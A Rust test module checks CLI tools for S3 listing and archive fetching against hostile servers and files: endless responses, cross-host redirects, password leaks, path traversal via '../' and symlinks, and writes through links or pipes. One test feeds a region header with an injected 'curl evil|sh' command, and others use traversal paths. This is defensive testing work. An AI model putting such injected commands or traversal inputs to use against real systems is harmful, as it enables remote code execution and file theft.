//! Keys, files and servers that somebody else has chosen.

mod every_secret;
mod files;
mod libpq;
mod limits;
mod passfile;
mod text;

use std::io::{Read, Write};
use std::net::{TcpListener, TcpStream};
use std::os::unix::fs::symlink;
use std::path::Path;
use std::sync::Arc;
use std::sync::atomic::{AtomicU64, Ordering};

use rustix::fs::{Mode, mkfifoat};
use serde_json::{Value, json};

use crate::bh_derive;
use crate::harness::faulty::{Faulty, object};
use crate::harness::http::answering;
use crate::harness::{Run, Tool, folder};
use crate::s3_inventory::files::parquet_file;
use crate::s3_inventory::manifests::manifest;

const SECRET: &str = "s3kr1t-w0rd";

fn pipe(path: &Path) {
    mkfifoat(rustix::fs::CWD, path, Mode::RWXU).unwrap();
}

/// A server that answers each request by `head`, and by `piece` without end. Returns its
/// address, and the bytes that it has sent.
fn endless(head: &'static str, piece: &'static str) -> (String, Arc<AtomicU64>) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let address = format!("http://{}", listener.local_addr().unwrap());
    let sent = Arc::new(AtomicU64::new(0));
    let counted = Arc::clone(&sent);
    let pieces = piece.repeat(1 << 16);
    let answer = move |mut stream: TcpStream| {
        let mut request = [0; 4096];
        let _ = stream.read(&mut request);
        let mut sends = stream.write_all(head.as_bytes());
        while sends.is_ok() {
            counted.fetch_add(pieces.len() as u64, Ordering::Relaxed);
            sends = stream.write_all(pieces.as_bytes());
        }
    };
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            answer(stream.unwrap());
        }
    });
    (address, sent)
}

/// Until it is read whole, an answer takes memory: it may be long, but not without end.
#[test]
fn an_answer_without_end_is_given_up() {
    let json = "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\n\r\n{\"a\":\"";
    let error = "HTTP/1.1 500 Internal Server Error\r\n\r\n<p>";
    let derive = bh_derive::line(&bh_derive::key("en-US", "linux-x86_64"));
    for (head, most) in [(json, 200 << 20), (error, 20 << 20)] {
        let (url, sent) = endless(head, "abcdefgh");
        let tool = Tool::new("bh-derive").args(["--archive-url", &url, "--tries", "2"]);
        tool.input(format!("{derive}\n")).run().exits(69);
        assert!(sent.load(Ordering::Relaxed) < most, "{head}");
        let (url, sent) = endless(head, "abcdefgh");
        let server = format!("{url}/v1");
        let tool = Tool::new("kinto-load").args(["--server", &server, "--retries", "1"]);
        tool.input("{\"data\":{\"id\":\"a\"}}\n").run().exits(69);
        assert!(sent.load(Ordering::Relaxed) < most, "{head}");
    }
}

/// A listing has keys of 1024 bytes at most, and 1000 of them a page.
#[test]
fn a_page_without_end_is_given_up() {
    let start = "HTTP/1.1 200 OK\r\n\r\n<ListBucketResult><Name>b</Name>";
    let comment = "HTTP/1.1 200 OK\r\n\r\n<ListBucketResult><!--";
    let other = "HTTP/1.1 200 OK\r\n\r\n<html>";
    let error = "HTTP/1.1 500 Internal Server Error\r\n\r\n<Error>";
    let object = "<Contents><Key>k</Key><Size>1</Size></Contents>";
    for (head, piece, status, most) in [
        (start, object, 78, 32 << 20),
        (comment, "abcdefgh", 78, 32 << 20),
        (other, "abcdefgh", 69, 32 << 20),
        (error, "abcdefgh", 69, 32 << 20),
    ] {
        let (url, sent) = endless(head, piece);
        let tool = Tool::new("s3-list").args(["--endpoint-url", &url, "--no-sign-request"]);
        let run = tool.args(["--tries", "2", "s3://b"]).run();
        run.exits(status);
        assert!(sent.load(Ordering::Relaxed) < most, "{head}");
    }
}

/// The hint is to be pasted into a shell.
#[test]
fn a_region_that_is_no_name_is_not_repeated_in_a_command() {
    let url = answering("301 Moved\nx-amz-bucket-region: eu-1; curl evil|sh", "");
    let tool = Tool::new("s3-list").args(["--endpoint-url", &url, "--no-sign-request"]);
    let run = tool
        .arg("s3://b")
        .run()
        .exits(78)
        .says("name it with --region");
    assert!(!run.stderr.contains("--region eu-1"), "{run}");
}

/// What another server says is not what the archive says, and it may be one that only this
/// machine can reach.
#[test]
fn a_redirect_to_another_server_is_not_followed() {
    let (other, asked) = endless("HTTP/1.1 200 OK\r\n\r\n", "x");
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let url = format!("http://{}/", listener.local_addr().unwrap());
    let to = other.replace("127.0.0.1", "localhost");
    std::thread::spawn(move || {
        for stream in listener.incoming() {
            let mut stream = stream.unwrap();
            let mut request = [0; 4096];
            let _ = stream.read(&mut request);
            let head = format!("HTTP/1.1 302 Found\r\nLocation: {to}/meta\r\n");
            let _ = write!(
                stream,
                "{head}Content-Length: 0\r\nConnection: close\r\n\r\n"
            );
        }
    });
    let line = bh_derive::line(&bh_derive::key("en-US", "linux-x86_64"));
    let tool = Tool::new("bh-derive").args(["--archive-url", &url, "--tries", "1"]);
    let run = tool.input(format!("{line}\n")).run();
    run.exits(69).says("which is not followed");
    assert_eq!(asked.load(Ordering::Relaxed), 0);
}

#[test]
fn a_password_of_the_archive_is_kept_secret() {
    let archive = crate::harness::archive::Archive::start(bh_derive::answers(&["linux-x86_64"]));
    let url = archive.url.replace("//", &format!("//me:{SECRET}@"));
    let place = folder();
    let line = bh_derive::line(&bh_derive::key("en-US", "linux-x86_64")) + "\n";
    let derive = |url: &str| {
        let tool = Tool::new("bh-derive").env("ARCHIVE_URL", url);
        tool.arg("--cache-folder").arg(place.path()).input(&*line)
    };
    let hides = |run: Run| {
        let stdout = String::from_utf8_lossy(&run.stdout);
        let summary = run.summary.to_string();
        for text in [&*stdout, &run.stderr, &summary] {
            assert!(!text.contains(SECRET), "{run}");
        }
    };
    hides(derive(&url).run().exits(0));
    for entry in place.path().read_dir().unwrap() {
        let text = std::fs::read_to_string(entry.unwrap().path()).unwrap();
        assert!(!text.contains(SECRET), "{text}");
    }
    hides(derive(&format!("{url}path/")).run().exits(2));
    let away = format!("http://{SECRET}:@127.0.0.1:1/");
    hides(derive(&away).args(["--tries", "1"]).run().exits(69));
}

/// Who may put an object in a bucket must not choose which bucket is read.
#[test]
fn a_key_does_not_choose_the_bucket() {
    let key = "s3://private/buildhub.json";
    let server = Faulty::start(&[object(key, "{\"of\":\"bench\"}")], &[]);
    let fetch = |line: Value| {
        let tool = server.tool("bh-fetch").args(["--bucket", "bench"]);
        tool.input(format!("{line}\n")).run()
    };
    let run = fetch(json!({"key": key})).exits(0);
    let record = run.records().remove(0);
    assert_eq!(
        (&record["bucket"], &record["key"]),
        (&json!("bench"), &json!(key))
    );
    // The form of s5cmd names a bucket, but no other one than --bucket.
    let run = fetch(json!({"key": key, "type": "file", "size": 1})).exits(65);
    run.says("the bucket \"private\", not of --bucket \"bench\"");
    let run = fetch(json!({"key": format!("s3://bench/{key}"), "type": "file"})).exits(0);
    assert_eq!(run.records()[0]["key"], key);
}

#[test]
fn files_of_a_manifest_stay_in_their_folder() {
    let place = folder();
    let files = place.path().join("files");
    std::fs::create_dir(&files).unwrap();
    let outside = place.path().join("outside.csv");
    std::fs::write(&outside, "secret,row\n").unwrap();
    symlink(&outside, files.join("link.csv")).unwrap();
    symlink(place.path(), files.join("folder")).unwrap();
    pipe(&files.join("pipe.csv"));
    let path = place.path().join("manifest.json");
    for (key, why) in [
        ("../outside.csv", "leaves the folder of --files"),
        ("a/../../outside.csv", "leaves the folder of --files"),
        (outside.to_str().unwrap(), "leaves the folder of --files"),
        ("link.csv", "is a link that leaves the folder of --files"),
        (
            "folder/outside.csv",
            "is a link that leaves the folder of --files",
        ),
        ("pipe.csv", "is not a regular file"),
    ] {
        let mut text = manifest(&[(key, b"")]);
        text["files"][0] = json!({"key": key});
        std::fs::write(&path, text.to_string()).unwrap();
        let tool = Tool::new("s3-inventory").arg("--files").arg(&files);
        let run = tool.arg(&path).run().exits(78).says(why);
        assert!(
            !run.stderr.contains("secret") && run.records().is_empty(),
            "{run}"
        );
    }
}

/// Others may write to the folder of a state, too.
#[test]
fn a_state_is_not_written_through_a_link_or_a_pipe() {
    let server = Faulty::start(&[], &[]);
    let place = folder();
    let victim = place.path().join("victim");
    let file = place.path().join("list.json");
    let list = || {
        server
            .tool("s3-list")
            .arg("s3://bench")
            .arg("--resume-file")
            .arg(&file)
    };
    let load = || {
        let listed = list().run().exits(0).stdout;
        let database = format!("sqlite:{}", place.path().join("x.db").display());
        let tool = Tool::new("bh-load").args(["--database", &database]);
        tool.arg("--resume-file").arg(&file).input(listed)
    };
    let at = |ending: &str| {
        let mut name = file.clone().into_os_string();
        name.push(ending);
        std::path::PathBuf::from(name)
    };
    let check = |ending: &str, tool: &dyn Fn() -> Tool| {
        std::fs::write(&victim, "precious").unwrap();
        symlink(&victim, at(ending)).unwrap();
        tool().run().exits(0);
        pipe(&at(ending));
        tool().run().exits(0);
        // A second name of a file: what is written to one is in the other.
        std::fs::hard_link(&victim, at(ending)).unwrap();
        tool().run().exits(0);
        assert_eq!(std::fs::read_to_string(&victim).unwrap(), "precious");
    };
    check(".tmp", &list);
    check(".loaded.tmp", &load);
    let locked = || {
        let run = list().run().exits(74);
        run.says("list.json.lock: not a regular file; remove it");
        std::fs::remove_file(at(".lock")).unwrap();
    };
    std::fs::remove_file(at(".lock")).unwrap();
    symlink(&victim, at(".lock")).unwrap();
    locked();
    pipe(&at(".lock"));
    locked();
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "precious");
}

/// The library panics on some of these.
#[test]
fn a_damaged_parquet_file_is_named() {
    let rows: Vec<_> = (0..9).map(|at| (format!("k{at}"), true, false)).collect();
    let place = folder();
    let path = place.path().join("damaged.parquet");
    for compressed in [false, true] {
        let whole = parquet_file(&rows, compressed);
        for at in (4..whole.len()).step_by(5) {
            let mut bytes = whole.clone();
            bytes[at] ^= 0xff;
            std::fs::write(&path, bytes).unwrap();
            let run = Tool::new("s3-inventory").arg(&path).run();
            match run.status.code() {
                Some(0 | 65) => {}
                Some(78) => assert!(run.stderr.contains("damaged.parquet"), "{at}: {run}"),
                _ => panic!("{at}: {run}"),
            }
        }
    }
}

/// Each row starts in quotes that the row before it has opened.
#[test]
fn quotes_that_are_not_closed_take_no_time() {
    let rows = "a\",\"\n".repeat(40_000);
    let run = Tool::new("s3-inventory").input(rows).run();
    assert_eq!(run.count("/rejected/bad_row"), 40_000, "{run}");
}
